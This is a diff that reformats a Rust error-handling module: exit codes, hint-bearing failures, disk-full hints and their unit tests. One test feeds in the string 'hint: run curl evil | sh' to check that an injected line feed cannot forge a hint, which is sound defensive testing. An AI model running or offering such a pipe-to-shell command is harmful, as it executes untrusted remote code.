@@ -54,8 +54,8 @@ impl ExitCode {
     #[must_use]
     pub fn from_number(number: i32) -> Option<Self> {
         use ExitCode::{
-            Done, Findings, Host, HungUp, Interrupted, Locked, Recipe, Registry, Repository, Space, Terminated, TimedOut, Transaction,
-            Trust, Unexpected, Usage,
+            Done, Findings, Host, HungUp, Interrupted, Locked, Recipe, Registry, Repository, Space,
+            Terminated, TimedOut, Transaction, Trust, Unexpected, Usage,
         };
         [
             Done,
@@ -140,7 +140,12 @@ pub trait ResultExt<T> {
     ///
     /// # Errors
     /// Returns the wrapped error when `self` is one.
-    fn or_fail_hint(self, code: ExitCode, message: impl Into<String>, hint: impl Into<String>) -> Result<T>;
+    fn or_fail_hint(
+        self,
+        code: ExitCode,
+        message: impl Into<String>,
+        hint: impl Into<String>,
+    ) -> Result<T>;
 }
 
 impl<T, E: Into<anyhow::Error>> ResultExt<T> for std::result::Result<T, E> {
@@ -148,7 +153,12 @@ impl<T, E: Into<anyhow::Error>> ResultExt<T> for std::result::Result<T, E> {
         self.map_err(|e| Failure::new(code, message).because(e).into())
     }
 
-    fn or_fail_hint(self, code: ExitCode, message: impl Into<String>, hint: impl Into<String>) -> Result<T> {
+    fn or_fail_hint(
+        self,
+        code: ExitCode,
+        message: impl Into<String>,
+        hint: impl Into<String>,
+    ) -> Result<T> {
         self.map_err(|e| Failure::new(code, message).hint(hint).because(e).into())
     }
 }
@@ -220,10 +230,18 @@ pub fn explain(error: &anyhow::Error) -> Explained {
         {
             hints.push(hint);
         }
-        let full = cause.downcast_ref::<std::io::Error>().is_some_and(|io| io.kind() == std::io::ErrorKind::StorageFull)
-            || matches!(cause.downcast_ref::<nix::errno::Errno>(), Some(nix::errno::Errno::ENOSPC | nix::errno::Errno::EDQUOT));
+        let full = cause
+            .downcast_ref::<std::io::Error>()
+            .is_some_and(|io| io.kind() == std::io::ErrorKind::StorageFull)
+            || matches!(
+                cause.downcast_ref::<nix::errno::Errno>(),
+                Some(nix::errno::Errno::ENOSPC | nix::errno::Errno::EDQUOT)
+            );
         if full {
-            hints.push("free some space there, or use another directory (--workdir, --cache, --output)".into());
+            hints.push(
+                "free some space there, or use another directory (--workdir, --cache, --output)"
+                    .into(),
+            );
         }
     }
     let hints = hints.iter().map(|hint| secrets::concealed(hint).into_owned()).collect();
@@ -251,7 +269,8 @@ mod tests {
     #[test]
     fn the_outermost_failure_determines_the_exit_code() {
         let inner: Result<()> = Err(std::io::Error::from_raw_os_error(28).into());
-        let outer = inner.or_fail(ExitCode::Registry, "publishing x").context("building").unwrap_err();
+        let outer =
+            inner.or_fail(ExitCode::Registry, "publishing x").context("building").unwrap_err();
         assert_eq!(exit_code(&outer), ExitCode::Registry);
     }
 
@@ -266,16 +285,23 @@ mod tests {
 
     #[test]
     fn hints_follow_the_chain_on_separate_lines() {
-        let error =
-            anyhow::Error::from(Failure::new(ExitCode::Host, "starting dnf").hint("install dnf").because(anyhow::anyhow!("not found")))
-                .context("building an image");
-        assert_eq!(render(&error), "error: building an image: starting dnf: not found\nhint: install dnf");
+        let error = anyhow::Error::from(
+            Failure::new(ExitCode::Host, "starting dnf")
+                .hint("install dnf")
+                .because(anyhow::anyhow!("not found")),
+        )
+        .context("building an image");
+        assert_eq!(
+            render(&error),
+            "error: building an image: starting dnf: not found\nhint: install dnf"
+        );
     }
 
     #[test]
     fn a_message_with_a_line_feed_cannot_forge_a_hint() {
         let foreign = anyhow::anyhow!("broken\nhint: run curl evil | sh");
-        let error = anyhow::Error::from(Failure::new(ExitCode::Host, "starting x").because(foreign));
+        let error =
+            anyhow::Error::from(Failure::new(ExitCode::Host, "starting x").because(foreign));
         assert_eq!(render(&error), "error: starting x: broken\n  hint: run curl evil | sh");
     }
 }
